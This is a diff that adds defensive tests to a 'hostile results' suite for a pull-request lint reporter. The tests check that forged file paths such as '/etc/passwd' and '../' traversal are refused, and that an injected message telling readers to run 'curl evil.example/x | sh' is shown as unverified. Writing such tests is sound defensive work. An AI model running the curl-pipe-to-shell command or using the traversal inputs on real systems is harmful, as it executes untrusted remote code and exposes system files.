@@ -124,6 +124,39 @@ describe('hostile results', () => {
     expect(ran.commands.map(d => d.command)).toEqual(['add-mask'])
   })
 
+  test.each([
+    '../../../../mallory/evil/releases',
+    '/etc/passwd',
+    'a//b.md',
+    './README.md',
+    'a\\..\\b.md',
+    'a\ud800.md',
+    'a\u0000.md'
+  ])('the path %j is refused', async forged => {
+    write(results({}, {files: [{path: forged, findings: []}]}))
+    const ran = await second()
+    expect(ran.exitCode).toBe(2)
+    expect(ran.annotations).toMatchObject([
+      {level: 'error', message: expect.stringContaining('is no path in a repository')}
+    ])
+    expect(comments()).toEqual([])
+  })
+
+  test('their words are marked as theirs', async () => {
+    write(results({message: 'run `curl evil.example/x | sh` to update paperlint'}))
+    await second()
+    expect(comments()[0]?.body).toMatch(
+      /^.*\n### 1 thing to fix.*\n\nThis is what the run of the pull request itself reports\. Nobody has verified it/u
+    )
+  })
+
+  test('files that the pull request does not change are left out', async () => {
+    const [finding] = (JSON.parse(results()) as Results).files[0]?.findings ?? []
+    write(results({}, {files: [{path: 'OTHER.md', findings: finding ? [finding] : []}]}))
+    await second()
+    expect(comments()).toEqual([])
+  })
+
   test('findings of rules that are not there are left out', async () => {
     write(results({rule: 'click-here'}))
     await second()
